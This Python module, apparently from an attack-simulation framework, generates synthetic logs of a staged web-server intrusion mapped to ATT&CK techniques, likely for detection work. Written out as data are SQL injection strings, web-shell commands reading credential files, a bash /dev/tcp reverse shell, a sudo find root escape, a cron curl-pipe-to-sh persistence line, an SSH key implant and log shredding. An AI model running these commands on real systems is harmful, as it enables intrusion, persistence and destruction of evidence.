"""The web server: probed, exploited through an upload, commanded through a web shell, then made a base."""

from __future__ import annotations

from urllib.parse import quote

from bartizan.simulate.company.linux import Execution
from bartizan.simulate.company.network import Flow
from bartizan.simulate.company.world import Request
from bartizan.simulate.contract import Attack, Deed, Stage

__all__ = ["STAGE"]

_HOST, _USER = "web-01", "www-data"
_INTRUDER = "203.0.113.45"
_FOLDER = "/srv/portal/uploads/avatars"
_WORKER = 1187
"""The web server's worker process, which runs what is uploaded."""
_AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0"


def _deed(name: str, what: str, tactic: str, *techniques: str, quiet: bool = False) -> Deed:
    return Deed(id=name, what=what, techniques=techniques, tactic=tactic, host=_HOST, principal=_USER, quiet=quiet)


_PROBE = _deed("web-probe", "The portal is searched for forgotten pages.", "reconnaissance", "T1595.003", quiet=True)
_INJECT = _deed("web-injection", "SQL is injected into the search to read the account table.", "initial-access", "T1190")
_UPLOAD = _deed(
    "web-upload", "A script is uploaded as a picture through a form that checks too little.", "initial-access", "T1190", "T1505.003"
)
_SHELL = _deed("web-shell", "Commands are given to the uploaded script.", "execution", "T1505.003", "T1059.004")
_REVERSE = _deed("reverse-shell", "The web server's user opens an interactive shell to the intruder.", "execution", "T1059.004", "T1571")
_HIDDEN_SHELL = _deed(
    "posted-shell",
    "Later commands travel in the body of POST requests to the same script: the log shows only that they came.",
    "command-and-control",
    "T1071.001",
    quiet=True,
)
_ROOT = _deed("sudo-escape", "A program that may be run with sudo is made to start a root shell.", "privilege-escalation", "T1548.003")
_CRON = _deed("cron-job", "A cron entry fetches and runs a script every hour.", "persistence", "T1053.003", "T1105")
_KEY = _deed("ssh-key", "A key is added to root's authorized keys.", "persistence", "T1098.004")
_HISTORY = _deed("history", "The shell's history is thrown away.", "defense-evasion", "T1070.003")


def _act(attack: Attack) -> None:
    _enter(attack)
    _command(attack)
    _stay(attack)


def _enter(attack: Attack) -> None:
    company = attack.company
    moment = company.clock.at("06:12:30")
    with attack.doing(moment, _PROBE):
        for turn in range(140):
            folder = attack.rng.choice(("admin", "old", "upload", "backup", "test", "dev", "api", "profile"))
            path = f"/{folder}/{attack.rng.choice(('index.php', '', 'login', 'config.php', 'v2', 'avatar'))}?{turn}"
            company.visit(moment + turn * 2.3, _INTRUDER, Request(path, status=404, size=162, agent=_AGENT))
        company.network.connection(moment, Flow(_INTRUDER, company.network.port(), "192.0.2.10", 443, "ssl", 322.0, 60_000, 90_000))
    moment = company.clock.at("06:31:12")
    with attack.doing(moment, _INJECT):
        for turn, text in enumerate(
            (
                "lamp' AND 1=1--",
                "lamp' AND 1=2--",
                "lamp' ORDER BY 5--",
                "lamp' UNION SELECT 1,version(),3,4,5--",
                "lamp' UNION SELECT 1,login,secret,4,5 FROM accounts--",
            )
        ):
            company.visit(
                moment + turn * 17,
                _INTRUDER,
                Request(f"/search?q={quote(text)}", status=500 if "ORDER" in text else 200, size=5312 + turn * 911, agent=_AGENT),
            )
    moment = company.clock.at("06:48:55")
    with attack.doing(moment, _UPLOAD):
        company.visit(moment, _INTRUDER, Request("/profile/avatar", "POST", 302, 0, _AGENT, "https://www.example.com/profile"))
        company.visit(moment + 9, _INTRUDER, Request("/uploads/avatars/8841.phtml", size=12, agent=_AGENT))


def _command(attack: Attack) -> None:
    company, host = attack.company, attack.company.linux[_HOST]
    moment = company.clock.at("06:50:20")
    with attack.doing(moment, _SHELL):
        for turn, command in enumerate(("id", "uname -a", "cat /etc/passwd", "ls -la /srv/portal", "cat /srv/portal/.env")):
            company.visit(
                moment + turn * 14,
                _INTRUDER,
                Request(f"/uploads/avatars/8841.phtml?x={quote(command)}", size=80 + turn * 300, agent=_AGENT),
            )
            shell = host.execute(moment + turn * 14, Execution(("/bin/sh", "-c", command), 33, directory=_FOLDER, parent=_WORKER))
            host.execute(moment + turn * 14 + 0.02, Execution(command.split(), 33, directory=_FOLDER, parent=shell))
    moment = company.clock.at("06:57:41")
    with attack.doing(moment, _REVERSE):
        command = f"bash -i >& /dev/tcp/{_INTRUDER}/4444 0>&1"
        company.visit(moment, _INTRUDER, Request(f"/uploads/avatars/8841.phtml?x={quote(command)}", status=504, size=160, agent=_AGENT))
        shell = host.execute(moment, Execution(("/bin/sh", "-c", command), 33, directory=_FOLDER, parent=_WORKER))
        attack.shells["web"] = host.execute(moment + 0.03, Execution(("/bin/bash", "-i"), 33, directory=_FOLDER, parent=shell))
        company.network.connection(moment + 0.05, Flow(host.ip, company.network.port(), _INTRUDER, 4444, "-", 2900.0, 41_000, 16_000))
    moment = company.clock.at("12:02:02")
    with attack.doing(moment, _HIDDEN_SHELL):
        for turn in range(11):
            company.visit(moment + turn * 340, _INTRUDER, Request("/uploads/avatars/8841.phtml", "POST", 200, 900 + turn * 77, _AGENT))


def _stay(attack: Attack) -> None:
    company, host = attack.company, attack.company.linux[_HOST]
    moment = company.clock.at("07:06:19")
    with attack.doing(moment, _ROOT):
        user = attack.shells["web"]
        host.execute(moment, Execution(("sudo", "-l"), 33, directory=_FOLDER, parent=user))
        host.sudo(moment + 20, "www-data", "/usr/bin/find /srv/portal/cache -exec /bin/sh ; -quit", "/var")
        escape = ("/usr/bin/find", "/srv/portal/cache", "-exec", "/bin/sh", ";", "-quit")
        found = host.execute(moment + 20, Execution(escape, directory=_FOLDER, parent=user))
        root = attack.shells["root"] = host.execute(moment + 20.1, Execution(("/bin/sh",), directory=_FOLDER, parent=found))
    moment = company.clock.at("07:13:02")
    with attack.doing(moment, _CRON):
        host.execute(
            moment,
            Execution(
                ("/bin/sh", "-c", "echo '17 * * * * root curl -fs http://cdn-update.example.net/l | sh' > /etc/cron.d/portal-cache"), 0
            ),
        )
        for turn in range(5):
            beat = company.clock.at(f"{9 + turn * 2:02d}:17:01")
            pid = host.pid()
            host.log(beat, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid)
            shell = host.execute(
                beat + 0.1, Execution(("/bin/sh", "-c", "curl -fs http://cdn-update.example.net/l | sh"), 0, 0, "/", parent=pid)
            )
            host.execute(beat + 0.11, Execution(("curl", "-fs", "http://cdn-update.example.net/l"), 0, 0, "/", parent=shell))
            host.execute(beat + 0.12, Execution(("/bin/sh",), 0, 0, "/", parent=shell))
            host.log(beat + 2, "CRON", "pam_unix(cron:session): session closed for user root", pid)
    moment = company.clock.at("07:15:48")
    with attack.doing(moment, _KEY):
        host.execute(
            moment, Execution(("/bin/sh", "-c", "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE >> /root/.ssh/authorized_keys"), 0)
        )
        peer = (_INTRUDER, company.network.port())
        company.network.connection(moment + 600, Flow(*peer, "192.0.2.10", 22, "ssh", 1800.0, 52_000, 190_000))
        attack.company.linux[_HOST].accept(moment + 600, "root", peer, "publickey")
    moment = company.clock.at("08:02:30")
    with attack.doing(moment, _HISTORY):
        host.execute(moment, Execution(("/bin/sh", "-c", "unset HISTFILE; ln -sf /dev/null /root/.bash_history"), parent=root))
        host.execute(moment + 4, Execution(("shred", "-u", "/var/log/nginx/portal-error.log"), parent=root))


STAGE = Stage(order=5, title="The web server", act=_act)
